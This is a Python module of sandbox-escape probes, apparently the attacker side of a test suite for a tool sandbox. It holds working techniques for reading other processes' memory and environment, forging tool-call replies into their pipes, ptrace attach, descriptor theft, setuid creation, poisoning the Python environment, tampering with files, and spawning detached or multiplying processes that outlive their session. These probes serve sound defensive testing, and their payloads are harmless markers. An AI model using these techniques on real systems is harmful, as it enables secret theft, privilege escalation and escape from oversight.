# /// script
# requires-python = ">=3.11"
# dependencies = []
# ///
"""Attacks: each function tries one thing, and says how far it got. Also what honest tools do."""

import ctypes
import errno
import fcntl
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import time
import urllib.error
import urllib.request
from functools import partial
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
_PTRACE_DETACH, _PTRACE_SEIZE = 17, 0x4206
_PIDFD_GETFD = 438


def _name(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, str(error))


def walls() -> dict:
    """What stands around this process, as it can see itself."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines())
    return {
        "filter": status["Seccomp"],
        "capabilities": int(status["CapEff"], 16),
        "init": Path("/proc/1/comm").read_text().strip(),
        "processes": [int(it.name) for it in Path("/proc").iterdir() if it.name.isdigit()],
        "own": os.getpid(),
        "temporary": os.environ.get("TMPDIR", ""),
        "poisoned": hasattr(sys, "poisoned"),
    }


# Processes.


def memory(pids: list[int], pattern: str) -> list[str]:
    """What is in the memory of other processes."""
    found = set()
    for pid in pids:
        try:
            areas = Path(f"/proc/{pid}/maps").read_text().splitlines()
            with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as file:
                for area in areas:
                    found |= _search(file, area, re.compile(pattern.encode()))
        except OSError:
            continue
    return sorted(found)


def _search(file, area: str, pattern: re.Pattern) -> set[str]:
    begin, _, end = area.split()[0].partition("-")
    if "rw" not in area.split()[1]:
        return set()
    try:
        file.seek(int(begin, 16))
        return {match[0].decode() for match in pattern.finditer(file.read(int(end, 16) - int(begin, 16)))}
    except (OSError, ValueError, OverflowError):
        return set()


def variables(pids: list[int]) -> str:
    """The environment of other processes."""
    found = []
    for pid in pids:
        try:
            found.append(Path(f"/proc/{pid}/environ").read_bytes().decode("utf-8", "replace"))
        except OSError:
            continue
    return "\0".join(found)


def pipes(pids: list[int], text: str = "") -> int:
    """How many pipes of other processes can be opened for writing. Writes the text to them."""
    found = 0
    for pid in pids:
        try:
            files = list(Path(f"/proc/{pid}/fd").iterdir())
        except OSError:
            continue
        for file in files:
            try:
                if str(file.readlink()).startswith("pipe:"):
                    pipe = os.open(file, os.O_WRONLY | os.O_NONBLOCK)
                    found += 1
                    os.write(pipe, text.encode())
                    os.close(pipe)
            except OSError:
                continue
    return found


def forge(pids: list[int]) -> int:
    """Answer the call of another tool in its place."""
    numbers = {found.rpartition(":")[2].strip() for found in memory(pids, r'"id": ?\d{6,}')}
    lines = [json.dumps({"id": int(number), "result": "forged", "error": None}) for number in numbers]
    return pipes(pids, "".join(f"{line}\n" for line in lines) or '{"id": 1, "result": "forged", "error": null}\n')


def attach(pids: list[int]) -> dict[str, str]:
    """Become the debugger of other processes."""
    return {str(pid): _attach(pid) for pid in pids}


def _attach(pid: int) -> str:
    if _libc.ptrace(_PTRACE_SEIZE, pid, None, None) != 0:
        return errno.errorcode[ctypes.get_errno()]
    _libc.ptrace(_PTRACE_DETACH, pid, None, None)
    return "ok"


def copy(pids: list[int]) -> dict[str, str]:
    """Read the memory of other processes with a system call. At address 0: who may read gets EFAULT."""
    found = {}
    buffer = ctypes.create_string_buffer(8)
    local, remote = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8), (ctypes.c_uint64 * 2)(0, 8)
    for pid in pids:
        ctypes.set_errno(0)
        done = _libc.process_vm_readv(pid, local, 1, remote, 1, 0)
        found[str(pid)] = "ok" if done >= 0 else errno.errorcode[ctypes.get_errno()]
    return found


def steal(pids: list[int]) -> dict[str, str]:
    """Take a descriptor out of other processes."""
    found = {}
    for pid in pids:
        try:
            handle = os.pidfd_open(pid)
        except OSError as error:
            found[str(pid)] = _name(error)
            continue
        ctypes.set_errno(0)
        taken = _libc.syscall(_PIDFD_GETFD, handle, 2, 0)
        os.close(handle)
        found[str(pid)] = "ok" if taken >= 0 else errno.errorcode[ctypes.get_errno()]
        if taken >= 0:
            os.close(taken)
    return found


def reach(pids: list[int]) -> dict[str, str]:
    """Whether other processes could be sent a signal."""
    return {str(pid): _tell(partial(os.kill, pid, 0)) for pid in pids}


def limit(pids: list[int]) -> dict[str, str]:
    """Whether the resource limits of other processes could be changed: sets them to what they are."""
    import resource

    def same(pid: int) -> None:
        resource.prlimit(pid, resource.RLIMIT_CORE, resource.prlimit(pid, resource.RLIMIT_CORE))

    return {str(pid): _tell(partial(same, pid)) for pid in pids}


def _tell(attempt) -> str:
    try:
        attempt()
    except OSError as error:
        return _name(error)
    return "ok"


# Files.


def read(path: str) -> str:
    """The content of a file, the names in a directory, or why not."""
    try:
        if Path(path).is_dir():
            return " ".join(sorted(entry.name for entry in Path(path).iterdir()))
        return Path(path).read_bytes().decode("utf-8", "replace")
    except OSError as error:
        return _name(error)


def open_to_write(path: str) -> str:
    """Whether a file could be written. Nothing is."""
    return _tell(lambda: os.close(os.open(path, os.O_WRONLY)))


def write(path: str, content: str) -> str:
    """Write a file."""
    return _tell(lambda: Path(path).write_text(content))


def overwrite(path: str, content: str) -> dict[str, str]:
    """Change what is in a file, in every way."""
    own = Path(f"own-{os.getpid()}")
    own.write_text(content)
    file, there = Path(path), Path(f"{path}.away")
    return {
        "write": write(path, content),
        "truncate": _tell(lambda: os.truncate(path, 0)),
        "append": _tell(lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND))),
        "replace": _tell(lambda: own.replace(file)),
        "link": _tell(lambda: os.link(path, there)),
        "move": _tell(lambda: file.rename(there)),
        "remove": _tell(file.unlink),
        "move the directory": "" if file.parent == Path.cwd() else _tell(lambda: file.parent.rename(f"{file.parent}2")),
    }


def move(path: str, to: str) -> str:
    """Move a file within its file system."""
    return _tell(lambda: Path(path).rename(to))


def truncate(path: str) -> str:
    """Empty a file without opening it."""
    return _tell(lambda: os.truncate(path, 0))


def change_rights(path: str) -> dict[str, str]:
    """Change what is known of a file, apart from its content."""
    return {
        "mode": _tell(lambda: Path(path).chmod(0o600)),
        "owner": _tell(lambda: os.chown(path, os.getuid(), os.getgid())),
        "times": _tell(lambda: os.utime(path)),
    }


def make_set_user_id(path: str) -> dict[str, str]:
    """Make a program that runs with the rights of its owner, whoever starts it."""
    mode = 0o4755
    how = (ctypes.c_uint64 * 3)(os.O_CREAT | os.O_WRONLY, mode, 0)
    ways = {
        "chmod": lambda: (Path(path).touch(), Path(path).chmod(mode)),
        "fchmod": lambda: os.fchmod(os.open(path, os.O_CREAT | os.O_RDWR), mode),
        "open": lambda: os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, mode),
        "mknod": lambda: os.mknod(path, mode | 0o100000),
        "openat2": lambda: _libc.syscall(437, -100, path.encode(), how, 24),
        "fchmodat2": lambda: (Path(path).touch(), _libc.syscall(452, -100, path.encode(), mode, 0)),
    }
    found = {}
    for name, way in ways.items():
        Path(path).unlink(missing_ok=True)
        _tell(way)
        found[name] = "ok" if Path(path).exists() and Path(path).stat().st_mode & 0o4000 else "refused"
    Path(path).unlink(missing_ok=True)
    return found


def netlink() -> list[int]:
    """The protocols by which one can talk to the kernel."""
    found = []
    for protocol in range(23):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            found.append(protocol)
        except OSError:
            continue
    return found


def link(path: str, target: str) -> str:
    """Put a symbolic link somewhere."""
    return _tell(lambda: Path(path).symlink_to(target))


def poison() -> dict[str, str]:
    """Have every interpreter of this environment run code of ours."""
    place = Path(sysconfig.get_path("purelib"))
    return {
        "pth": write(str(place / "poison.pth"), "import sys; sys.poisoned = True\n"),
        "sitecustomize": write(str(place / "sitecustomize.py"), "import sys; sys.poisoned = True\n"),
        "configuration": open_to_write(str(place.parents[2] / "pyvenv.cfg")),
        "library": open_to_write(os.__file__),
        "worker": open_to_write(sys.modules["__main__"].__file__ or ""),
    }


def run(program: str, *, arguments: list[str]) -> str:
    """Start a program: what it prints, or why it cannot be started."""
    try:
        done = subprocess.run([program, *arguments], capture_output=True, text=True, timeout=30, check=False)
    except OSError as error:
        return _name(error)
    return done.stdout + done.stderr


def setting(variable: str) -> str | None:
    """An environment variable of this process."""
    return os.environ.get(variable)


def temporary(content: str) -> str:
    """Use the temporary directory."""
    import tempfile

    with tempfile.TemporaryDirectory() as directory:
        Path(directory, "file").write_text(content)
        return Path(directory, "file").read_text()


def wait(path: str) -> str:
    """Be at work until a file is there."""
    Path(f"{path}.begun").touch()
    end = time.monotonic() + 60
    while not Path(path).exists() and time.monotonic() < end:
        time.sleep(0.005)
    return "done"


# Sockets and memory of other programs.


def connect(path: str) -> str:
    """Connect to a socket in the file system, or to an abstract one ("@name")."""
    address = f"\0{path[1:]}" if path.startswith("@") else path
    with socket.socket(socket.AF_UNIX) as end:
        return _tell(lambda: end.connect(address))


def shared_memory(key: int) -> str:
    """Attach memory of System V."""
    found = _libc.shmget(key, 0, 0)
    return "ok" if found >= 0 else errno.errorcode[ctypes.get_errno()]


def tcp(host: str, port: int) -> str:
    """Connect, and send nothing."""
    return _network(socket.SOCK_STREAM, host, port)


def udp(host: str, port: int) -> str:
    """Send a datagram."""
    return _network(socket.SOCK_DGRAM, host, port)


def _network(kind: int, host: str, port: int) -> str:
    try:
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as end:
            end.settimeout(2)
            end.connect((host, port))
            if kind == socket.SOCK_DGRAM:
                end.send(b"hello")
    except OSError as error:
        return _name(error)
    return "ok"


def resolve(name: str) -> str:
    """Look up a name."""
    try:
        return socket.getaddrinfo(name, 80)[0][4][0]
    except OSError as error:
        return str(error.errno)


def fetch(url: str) -> str:
    """What a web server answers."""
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode('utf-8', 'replace')}"
    except OSError as error:
        return f"{type(error).__name__}: {error}"


# Processes that mean to live on.


_SLEEP = "import signal, time; signal.alarm(60); time.sleep(60)"
_FORK_AND_DIE = """
import os, signal, time
end = time.monotonic() + 60
while time.monotonic() < end and os.fstat(LOCK).st_nlink:
    if os.fork():
        os._exit(0)
    os.setsid()
"""
_FORK_WHEN_ALONE = """
import ctypes, os, signal, time
def multiply(*_):
    for _ in range(10):
        if os.fork() == 0:
            os.setsid()
            signal.alarm(60)
            time.sleep(60)
            os._exit(0)
signal.signal(signal.SIGUSR1, multiply)
ctypes.CDLL(None).prctl(1, int(signal.SIGUSR1), 0, 0, 0)
signal.alarm(60)
time.sleep(60)
time.sleep(60)
"""


def escape(way: str, path: str) -> None:
    """Start something that is to live on, and wait for the deadline.

    As long as it lives, the file is locked. When it has started, `path.begun` is there.
    """
    lock = os.open(path, os.O_CREAT | os.O_RDWR, 0o666)
    fcntl.flock(lock, fcntl.LOCK_EX)
    _ESCAPES[way](lock)
    Path(f"{path}.begun").touch()
    time.sleep(60)


def _fork(*, twice: bool = False, undumpable: bool = False) -> None:
    ready, done = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if undumpable:
            _libc.prctl(4, 0, 0, 0, 0)
        if not twice or os.fork() == 0:
            os.write(done, b"!")
            signal.alarm(60)
            time.sleep(60)
        os._exit(0)
    os.read(ready, 1)


def _start(lock: int, code: str, *before: str) -> None:
    command = [*before, sys.executable, "-I", "-S", "-c", code]
    subprocess.Popen(command, env={}, start_new_session=True, pass_fds=[lock], stdout=2)


_ESCAPES = {
    "a session of its own": lambda lock: _fork(),
    "two forks": lambda lock: _fork(twice=True),
    "not dumpable": lambda lock: _fork(undumpable=True),
    "no variables": lambda lock: _start(lock, _SLEEP),
    "nohup and env -i": lambda lock: _start(lock, _SLEEP, shutil.which("nohup") or "", "env", "-i"),
    "forking and dying": lambda lock: _start(lock, _FORK_AND_DIE.replace("LOCK", str(lock))),
    "forking when its parent dies": lambda lock: _start(lock, _FORK_WHEN_ALONE),
}


def multiply(count: int, path: str) -> None:
    """Start many processes that have neither parent nor variables, and wait for the deadline."""
    lock = os.open(path, os.O_CREAT | os.O_RDWR, 0o666)
    fcntl.flock(lock, fcntl.LOCK_EX)
    code = f"""
import os, signal, time
for _ in range({count}):
    if os.fork() == 0:
        os.setsid()
        signal.alarm(60)
        time.sleep(60)
        os._exit(0)
open({path + ".begun"!r}, "w").close()
"""
    _start(lock, code)
    time.sleep(60)
